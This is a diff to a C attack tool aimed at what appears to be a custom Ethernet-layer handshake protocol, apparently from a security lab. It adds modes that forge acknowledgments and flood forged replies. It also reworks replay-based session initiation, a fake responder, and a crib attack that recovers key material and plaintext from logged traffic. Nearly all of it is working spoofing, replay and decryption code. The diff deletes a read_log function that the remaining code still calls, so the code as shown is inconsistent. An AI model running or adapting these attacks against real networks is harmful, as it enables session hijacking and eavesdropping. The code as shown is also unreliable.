@@ -5,8 +5,8 @@
  *
  *	attack initiate IF MAC C1	A1: become an initiator by replaying a C1 (hex)
  *	attack respond IF		A2: answer whoever starts an exchange on IF
- *	attack flood IF MAC COUNT TAG	COUNT C1 frames with random bodies; TAG (hex)
- *					is the kid's part of the header
+ *	attack acknowledge IF		A17: acknowledge the C5 of whoever starts one
+ *	attack answer IF COUNT		send as many forged C2 to whoever starts one
  *	attack break LOG LEN OCTET	A4: from a log of `cable` to the elements and
  *					to all that was said.  DATA frames with LEN
  *					octets behind the Ethernet header are known
@@ -17,7 +17,8 @@
 #include "packet.h"
 #include <poll.h>
 
-#define WAIT_MS		5000
+#define WAIT_MS		2500	/* for an answer */
+#define WAIT_C1_MS	10000	/* for somebody to begin */
 #define SESSIONS	64
 #define CRIB_AT		64	/* behind the header; a multiple of the key's length */
 
@@ -34,7 +35,20 @@ static uint8_t *src_sid(uint8_t *frame)
 	return frame + ETHER_LEN + 8;
 }
 
-static void begin_frame(uint8_t *frame, const uint8_t *to, int type, const uint8_t *sid)
+/* Octets behind the header, by type; suite xor's, and those of the others. */
+static int body_len(const uint8_t *frame)
+{
+	static const int len[2][ACK + 1] = {
+		{ 0, 32, 32, 32, 32, 32, 0 },
+		{ 0, 96, 80, 48, 48, 48, 24 },
+	};
+
+	return len[!!frame[ETHER_LEN + 2]][frame[ETHER_LEN]];
+}
+
+/* In the suite of what it answers. */
+static void begin_frame(uint8_t *frame, const uint8_t *to, int type, const uint8_t *of,
+			const uint8_t *sid)
 {
 	memset(frame, 0, FRAME_MAX);
 	memcpy(frame, to, 6);
@@ -43,14 +57,16 @@ static void begin_frame(uint8_t *frame, const uint8_t *to, int type, const uint8
 	frame[13] = ETHERTYPE & 0xff;
 	frame[ETHER_LEN] = type;
 	frame[ETHER_LEN + 1] = 1;
-	if (sid)
-		memcpy(dst_sid(frame), sid, 4);
+	frame[ETHER_LEN + 2] = of[ETHER_LEN + 2];
+	memcpy(dst_sid(frame), sid, 4);
 }
 
 static void send_handshake(int fd, const uint8_t *frame)
 {
-	int len = frame[ETHER_LEN] == ACK ? FRAME_MIN : HEADER + KEY_LEN;
+	int len = HEADER + body_len(frame);
 
+	if (len < FRAME_MIN)
+		len = FRAME_MIN;
 	if (send(fd, frame, len, 0) != len)
 		die("send");
 }
@@ -59,9 +75,10 @@ static void send_handshake(int fd, const uint8_t *frame)
 static void await(int fd, int type, const uint8_t *sid, uint8_t *frame)
 {
 	struct pollfd wait = { .fd = fd, .events = POLLIN };
+	int wait_ms = type == C1 ? WAIT_C1_MS : WAIT_MS;
 	int tries, len;
 
-	for (tries = 0; tries < 10000 && poll(&wait, 1, WAIT_MS) == 1; tries++) {
+	for (tries = 0; tries < 10000 && poll(&wait, 1, wait_ms) == 1; tries++) {
 		len = recv(fd, frame, FRAME_MAX, 0);
 		if (len < FRAME_MIN || ether_type(frame) != ETHERTYPE ||
 		    frame[ETHER_LEN] != type)
@@ -94,25 +111,25 @@ static int initiate(const char *name, const char *mac, const char *old)
 	uint8_t to[6], own[4], theirs[4];
 	int fd = packet_socket(name);
 
-	if (from_hex(old, c1, sizeof(c1)) < HEADER + KEY_LEN)
+	if (from_hex(old, c1, sizeof(c1)) < FRAME_MIN)
 		return 2;
 	parse_mac(mac, to);
 	memcpy(c1, to, 6);
 	memcpy(c1 + 6, attacker, 6);
-	fill_random(own, 4);
-	memcpy(src_sid(c1), own, 4);
+	memcpy(own, src_sid(c1), 4);
 	send_handshake(fd, c1);
 
 	await(fd, C2, own, answer);
+	printf("answered\n");
 	memcpy(theirs, src_sid(answer), 4);
-	begin_frame(c3, to, C3, theirs);
-	fill_random(c3 + HEADER, KEY_LEN);
+	begin_frame(c3, to, C3, c1, theirs);
+	fill_random(c3 + HEADER, body_len(c3));
 	send_handshake(fd, c3);
 
 	await(fd, C4, own, answer);
-	begin_frame(c5, to, C5, theirs);
-	memcpy(c5 + HEADER, answer + HEADER, KEY_LEN);
-	mix(c5 + HEADER, c3 + HEADER, KEY_LEN);
+	begin_frame(c5, to, C5, c1, theirs);
+	memcpy(c5 + HEADER, answer + HEADER, body_len(c5));
+	mix(c5 + HEADER, c3 + HEADER, body_len(c5));
 	send_handshake(fd, c5);
 	await(fd, ACK, own, answer);
 	printf("acknowledged\n");
@@ -122,49 +139,68 @@ static int initiate(const char *name, const char *mac, const char *old)
 /* Nothing that the initiator can check depends on a key: anything will do. */
 static int respond(const char *name)
 {
-	static uint8_t in[FRAME_MAX], out[FRAME_MAX];
+	static uint8_t c1[FRAME_MAX], in[FRAME_MAX], out[FRAME_MAX];
 	uint8_t own[4], theirs[4], to[6];
 	int fd = packet_socket(name);
 
 	printf("waiting\n");
 	fflush(stdout);
-	await(fd, C1, NULL, in);
-	memcpy(theirs, src_sid(in), 4);
-	memcpy(to, in + 6, 6);
+	await(fd, C1, NULL, c1);
+	memcpy(theirs, src_sid(c1), 4);
+	memcpy(to, c1 + 6, 6);
 	fill_random(own, 4);
 
-	begin_frame(out, to, C2, theirs);
+	begin_frame(out, to, C2, c1, theirs);
 	memcpy(src_sid(out), own, 4);
-	fill_random(out + HEADER, KEY_LEN);
+	fill_random(out + HEADER, body_len(out));
 	send_handshake(fd, out);
+	printf("answered\n");
 
 	await(fd, C3, own, in);
-	begin_frame(out, to, C4, theirs);
-	fill_random(out + HEADER, KEY_LEN);
+	begin_frame(out, to, C4, c1, theirs);
+	fill_random(out + HEADER, body_len(out));
 	send_handshake(fd, out);
 
 	await(fd, C5, own, in);
-	begin_frame(out, to, ACK, theirs);
+	begin_frame(out, to, ACK, c1, theirs);
+	fill_random(out + HEADER, body_len(out));
 	send_handshake(fd, out);
 	printf("acknowledged\n");
 	return 0;
 }
 
-static int flood(const char *name, const char *mac, int count, const char *tag)
+static int acknowledge(const char *name)
 {
-	static uint8_t frame[FRAME_MAX];
-	uint8_t to[6];
+	static uint8_t c1[FRAME_MAX], c5[FRAME_MAX], out[FRAME_MAX];
 	int fd = packet_socket(name);
 
-	parse_mac(mac, to);
-	begin_frame(frame, to, C1, NULL);
-	if (from_hex(tag, frame + ETHER_LEN + 12, 4) != 4)
-		return 2;
+	printf("waiting\n");
+	fflush(stdout);
+	await(fd, C1, NULL, c1);
+	await(fd, C5, NULL, c5);
+	begin_frame(out, c1 + 6, ACK, c1, src_sid(c1));
+	fill_random(out + HEADER, body_len(out));
+	send_handshake(fd, out);
+	printf("acknowledged\n");
+	return 0;
+}
+
+static int answer(const char *name, int count)
+{
+	static uint8_t c1[FRAME_MAX], c2[FRAME_MAX];
+	int fd = packet_socket(name);
+
+	printf("waiting\n");
+	fflush(stdout);
+	await(fd, C1, NULL, c1);
+	begin_frame(c2, c1 + 6, C2, c1, src_sid(c1));
+	memcpy(c2 + 6, c1, 6);
 	while (count--) {
-		fill_random(src_sid(frame), 4);
-		fill_random(frame + HEADER, KEY_LEN);
-		send_handshake(fd, frame);
+		fill_random(src_sid(c2), 4);
+		fill_random(c2 + HEADER, body_len(c2));
+		send_handshake(fd, c2);
 	}
+	printf("answered\n");
 	return 0;
 }
 
@@ -183,29 +219,6 @@ struct seen {
 
 static struct seen sessions[SESSIONS];
 static int session_count;
-
-typedef void on_frame(uint8_t *frame, int len, void *arg);
-
-static void read_log(const char *name, on_frame *handle, void *arg)
-{
-	static char line[2 * FRAME_MAX + 64];
-	static uint8_t frame[FRAME_MAX];
-	FILE *from = fopen(name, "r");
-	char *hex;
-	int len;
-
-	if (!from)
-		die(name);
-	while (fgets(line, sizeof(line), from)) {
-		hex = strrchr(line, ' ');
-		if (*line == '#' || !hex)
-			continue;
-		len = from_hex(hex + 1, frame, sizeof(frame));
-		if (len >= FRAME_MIN && ether_type(frame) == ETHERTYPE)
-			handle(frame, len, arg);
-	}
-	fclose(from);
-}
 
 static struct seen *by_i_sid(const uint8_t *sid)
 {
@@ -371,6 +384,15 @@ static void print_data(uint8_t *frame, int len, void *arg)
 	print_text(frame + HEADER, len - HEADER);
 }
 
+static int cribbed(void)
+{
+	int i, count = 0;
+
+	for (i = 0; i < session_count; i++)
+		count += sessions[i].broken;
+	return count;
+}
+
 static int break_log(const char *name, int len, const char *octet)
 {
 	struct crib crib = { .len = len };
@@ -381,9 +403,9 @@ static int break_log(const char *name, int len, const char *octet)
 		return 2;
 	read_log(name, take_exchange, NULL);
 	read_log(name, take_crib, &crib);
+	printf("%d sessions seen, %d with the crib\n", session_count, cribbed());
 	if (!find_elements()) {
-		fprintf(stderr, "%d sessions seen, but no two that were enough\n",
-			session_count);
+		printf("no two that were enough\n");
 		return 1;
 	}
 	for (i = 0; i < 3; i++) {
@@ -437,8 +459,10 @@ int main(int argc, char **argv)
 		return initiate(argv[2], argv[3], argv[4]);
 	if (argc == 3 && !strcmp(argv[1], "respond"))
 		return respond(argv[2]);
-	if (argc == 6 && !strcmp(argv[1], "flood"))
-		return flood(argv[2], argv[3], atoi(argv[4]), argv[5]);
+	if (argc == 3 && !strcmp(argv[1], "acknowledge"))
+		return acknowledge(argv[2]);
+	if (argc == 4 && !strcmp(argv[1], "answer"))
+		return answer(argv[2], atoi(argv[3]));
 	if (argc == 5 && !strcmp(argv[1], "break"))
 		return break_log(argv[2], atoi(argv[3]), argv[4]);
 	if (argc == 5 && !strcmp(argv[1], "pad")) {
